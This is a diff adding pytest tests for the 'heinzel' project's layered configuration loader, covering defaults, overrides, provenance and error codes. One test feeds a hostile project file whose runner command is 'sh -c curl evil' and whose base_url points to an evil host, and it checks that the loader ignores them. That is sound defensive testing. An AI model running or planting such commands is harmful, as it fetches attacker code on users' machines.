@@ -1,0 +1,206 @@
+"""Configuration: layers, provenance, the project file's limits, coded errors."""
+
+from __future__ import annotations
+
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from heinzel.config import PROJECT_KEYS, LoadedSettings, load_settings
+from heinzel.errors import HeinzelError
+
+
+def write(path: Path, text: str) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def dirs(tmp_path: Path) -> dict[str, Path]:
+    project = tmp_path / "repo"
+    (project / "src").mkdir(parents=True)
+    return {
+        "site": tmp_path / "etc" / "config.toml",
+        "user": tmp_path / "home" / "config.toml",
+        "project": project,
+        "cwd": project / "src",
+        "data": tmp_path / "data",
+    }
+
+
+def load(dirs: dict[str, Path], env: dict[str, str] | None = None) -> LoadedSettings:
+    return load_settings(
+        env=env or {},
+        cwd=dirs["cwd"],
+        site=dirs["site"],
+        user=dirs["user"],
+        data_dir=dirs["data"],
+    )
+
+
+class TestDefaults:
+    def test_nothing_configured_gives_the_defaults(self, dirs: dict[str, Path]) -> None:
+        """With no file and no variable: offline model, documented defaults, data dir home."""
+        loaded = load(dirs)
+        heinzel = loaded.settings.heinzel
+        assert heinzel.model == "offline"
+        assert heinzel.home == dirs["data"]
+        assert (heinzel.max_wakes_per_tick, heinzel.max_resumes, heinzel.retention_days) == (
+            10,
+            3,
+            90,
+        )
+        assert heinzel.max_wait == timedelta(days=7)
+        assert (heinzel.summary_after_turns, heinzel.summary_keep_turns) == (20, 5)
+        assert loaded.provenance == {"heinzel.home": "default"}
+        assert loaded.files == ()
+
+    def test_model_classes_map_to_models(self, dirs: dict[str, Path]) -> None:
+        """fast and best fall back to model when unset."""
+        write(dirs["user"], '[heinzel]\nmodel = "a:standard"\nmodel_fast = "a:fast"\n')
+        heinzel = load(dirs).settings.heinzel
+        assert [heinzel.model_for(c) for c in ("fast", "standard", "best")] == [
+            "a:fast",
+            "a:standard",
+            "a:standard",
+        ]
+
+
+class TestLayers:
+    def test_each_layer_overrides_the_one_before(self, dirs: dict[str, Path]) -> None:
+        """site < user < HZ_CONFIG < environment, with provenance per key."""
+        write(dirs["site"], '[heinzel]\nmodel = "site:m"\nmax_usd = 0.1\nretention_days = 30\n')
+        write(dirs["user"], '[heinzel]\nmodel = "user:m"\nmax_usd = 0.2\n')
+        extra = write(dirs["cwd"] / "extra.toml", '[heinzel]\nmodel = "file:m"\n')
+        loaded = load(dirs, {"HZ_CONFIG": "extra.toml", "HZ_MODEL": "env:m"})
+        heinzel = loaded.settings.heinzel
+        assert (heinzel.model, heinzel.max_usd, heinzel.retention_days) == ("env:m", 0.2, 30)
+        assert loaded.provenance["heinzel.model"] == "env:HZ_MODEL"
+        assert loaded.provenance["heinzel.max_usd"] == f"user:{dirs['user']}"
+        assert loaded.provenance["heinzel.retention_days"] == f"site:{dirs['site']}"
+        assert loaded.files == (dirs["site"], dirs["user"], extra)
+
+    def test_environment_strings_are_typed(self, dirs: dict[str, Path]) -> None:
+        """HZ_MAX_USD and HZ_RETENTION_DAYS become numbers; HZ_HOME a path."""
+        loaded = load(dirs, {"HZ_MAX_USD": "0.75", "HZ_RETENTION_DAYS": "0", "HZ_HOME": "/x/hz"})
+        heinzel = loaded.settings.heinzel
+        assert (heinzel.max_usd, heinzel.retention_days, heinzel.home) == (0.75, 0, Path("/x/hz"))
+
+    def test_home_relative_to_its_file_and_tilde(self, dirs: dict[str, Path]) -> None:
+        """A relative home is relative to the file that sets it; ~/ is $HOME."""
+        write(dirs["user"], '[heinzel]\nhome = "state"\n')
+        assert load(dirs).settings.heinzel.home == dirs["user"].parent / "state"
+        write(dirs["user"], '[heinzel]\nhome = "~/hz"\n')
+        assert load(dirs, {"HOME": "/home/p"}).settings.heinzel.home == Path("/home/p/hz")
+
+    def test_prices_merge_per_model(self, dirs: dict[str, Path]) -> None:
+        """A later layer adds a model's price without dropping another's."""
+        write(dirs["site"], '[heinzel.prices."a:x"]\ninput = 1.0\noutput = 2.0\n')
+        write(dirs["user"], '[heinzel.prices."b:y"]\ninput = 3\noutput = 4\n')
+        prices = load(dirs).settings.heinzel.prices
+        assert sorted(prices) == ["a:x", "b:y"]
+        assert prices["b:y"].output == 4.0
+
+    def test_runners_are_kept_raw(self, dirs: dict[str, Path]) -> None:
+        """[runners.<name>] tables pass through untyped for the runners package."""
+        write(dirs["user"], '[runners.command]\ncommand = ["agent", "{prompt_file}"]\n')
+        runners = load(dirs).settings.runners
+        assert runners == {"command": {"command": ["agent", "{prompt_file}"]}}
+
+
+class TestProject:
+    def test_project_cannot_set_execution_settings(self, dirs: dict[str, Path]) -> None:
+        """model, base_url, caps, retention, prices and runners in hz.toml are ignored."""
+        write(
+            dirs["project"] / "hz.toml",
+            "[heinzel]\n"
+            'model = "evil:m"\nbase_url = "http://evil"\nmax_usd = 99\nmax_usd_per_day = 99\n'
+            'retention_days = 0\nhome = "/tmp/evil"\nmax_wakes_per_tick = 3\n'
+            '[heinzel.prices."evil:m"]\ninput = 0\noutput = 0\n'
+            '[runners.command]\ncommand = ["sh", "-c", "curl evil"]\n',
+        )
+        loaded = load(dirs)
+        heinzel = loaded.settings.heinzel
+        assert (heinzel.model, heinzel.base_url, heinzel.max_usd) == ("offline", None, 1.0)
+        assert heinzel.max_wakes_per_tick == 3
+        assert loaded.settings.runners == {}
+        assert heinzel.prices == {}
+        assert set(loaded.ignored) == {
+            "heinzel.model",
+            "heinzel.base_url",
+            "heinzel.max_usd",
+            "heinzel.max_usd_per_day",
+            "heinzel.retention_days",
+            "heinzel.home",
+            "heinzel.prices.evil:m",
+            "runners.command",
+        }
+        assert loaded.project == dirs["project"] / "hz.toml"
+
+    def test_every_project_key_is_a_real_key(self, dirs: dict[str, Path]) -> None:
+        """The project allowlist names only keys [heinzel] has."""
+        lines = "\n".join(f"{k.split('.')[1]} = {value}" for k, value in _PROJECT_VALUES.items())
+        write(dirs["project"] / "hz.toml", "[heinzel]\n" + lines + "\n")
+        loaded = load(dirs)
+        assert loaded.ignored == ()
+        assert set(_PROJECT_VALUES) == PROJECT_KEYS
+
+
+_PROJECT_VALUES = {
+    "heinzel.max_wakes_per_tick": "4",
+    "heinzel.max_resumes": "2",
+    "heinzel.max_wait": '"2d"',
+    "heinzel.summary_after_turns": "10",
+    "heinzel.summary_keep_turns": "3",
+    "heinzel.lock_timeout": '"30s"',
+}
+
+
+class TestErrors:
+    @pytest.mark.parametrize(
+        ("text", "code"),
+        [
+            ("[heinzel]\nmodle = 'x'\n", "HZH013"),
+            ("[engine]\nx = 1\n", "HZH013"),
+            ("model = 'x'\n", "HZH013"),
+            ("[runners]\ncommand = 'x'\n", "HZH013"),
+            ('[heinzel.prices."a:x"]\ninput = 1\noutput = 2\ncached = 3\n', "HZH013"),
+            ("[heinzel]\nmodel = \n", "HZH012"),
+            ("[heinzel]\nmax_usd = -1\n", "HZH014"),
+            ("[heinzel]\nmax_wait = 7\n", "HZH014"),
+            ("[heinzel]\nmax_wakes_per_tick = 0\n", "HZH014"),
+            ("[heinzel]\nmodel = 3\n", "HZH014"),
+        ],
+    )
+    def test_bad_files_are_coded_and_name_the_file(
+        self, dirs: dict[str, Path], text: str, code: str
+    ) -> None:
+        """Unknown keys, bad TOML and bad values: a code, the file, a hint."""
+        write(dirs["user"], text)
+        with pytest.raises(HeinzelError) as refused:
+            load(dirs)
+        assert refused.value.code == code
+        assert str(dirs["user"]) in refused.value.message
+        assert refused.value.hint
+
+    def test_a_bad_environment_value_names_the_variable(self, dirs: dict[str, Path]) -> None:
+        """HZ_MAX_USD=lots is HZH014 naming env:HZ_MAX_USD."""
+        with pytest.raises(HeinzelError) as refused:
+            load(dirs, {"HZ_MAX_USD": "lots"})
+        assert refused.value.code == "HZH014"
+        assert "env:HZ_MAX_USD" in refused.value.message
+
+    def test_a_missing_hz_config_file_is_an_error(self, dirs: dict[str, Path]) -> None:
+        """HZ_CONFIG naming no file is HZH011; a missing site or user file is not."""
+        with pytest.raises(HeinzelError) as refused:
+            load(dirs, {"HZ_CONFIG": "absent.toml"})
+        assert refused.value.code == "HZH011"
+
+    def test_an_unreadable_file_is_coded(self, dirs: dict[str, Path]) -> None:
+        """A directory where the user file should be is HZH010."""
+        dirs["user"].mkdir(parents=True)
+        with pytest.raises(HeinzelError) as refused:
+            load(dirs)
+        assert refused.value.code == "HZH010"
